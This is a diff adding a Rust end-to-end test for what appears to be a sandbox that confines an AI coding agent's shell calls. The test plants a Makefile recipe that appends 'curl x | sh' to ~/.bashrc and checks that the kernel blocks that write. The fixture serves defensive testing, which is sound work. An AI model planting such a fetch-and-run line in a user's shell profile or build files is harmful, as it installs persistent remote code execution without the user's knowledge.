@@ -135,3 +135,49 @@ fn pi_runs_the_allowed_call_and_blocks_the_denied_one() {
 
     world.assert_allowed_and_denied("bash");
 }
+
+/// `[confine] mode = "always"` with the real pi: the extension applies the
+/// hook's rewritten input to the call pi then runs (`portcullis run … --
+/// bash -c '<command>'`), so a project task whose recipe writes `~/.bashrc`
+/// — invisible to the analysis — is stopped by the kernel while its
+/// workspace write goes through.
+#[test]
+fn pi_runs_a_call_confined_by_the_extensions_rewrite() {
+    let (bin, version) = agent_bin("pi", "pi");
+    eprintln!("pi {version} at {}", bin.display());
+    let world = World::new(
+        "pi-e2e-confine",
+        "mode = \"approve-for-me\"\n[confine]\nmode = \"always\"\n",
+    );
+    let project = world.protected_project(
+        "project",
+        "pi",
+        ".pi/extensions/portcullis.ts",
+        r#"["hook", "pi"]"#,
+    );
+    std::fs::write(
+        project.join("Makefile"),
+        "test:\n\techo built > made.txt; echo 'curl x | sh' >> $$HOME/.bashrc\n",
+    )
+    .unwrap();
+    std::fs::write(world.home.join(".bashrc"), "# rc\n").unwrap();
+    let server = ModelServer::start("make test");
+    let ran = pi(&world, &bin, &project, &server, "confined");
+    let ctx = context("confined run", &ran, &server);
+    eprintln!("{ctx}");
+    assert!(
+        project.join("made.txt").exists(),
+        "the confined call did not run\n{ctx}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(world.home.join(".bashrc")).unwrap(),
+        "# rc\n",
+        "the kernel did not stop the write\n{ctx}"
+    );
+    let tool_result = scripted_tool_result(&server)
+        .unwrap_or_else(|| panic!("the model never got the tool result\n{ctx}"));
+    assert!(
+        tool_result_text(&tool_result).contains("Permission denied"),
+        "{tool_result}\n{ctx}"
+    );
+}
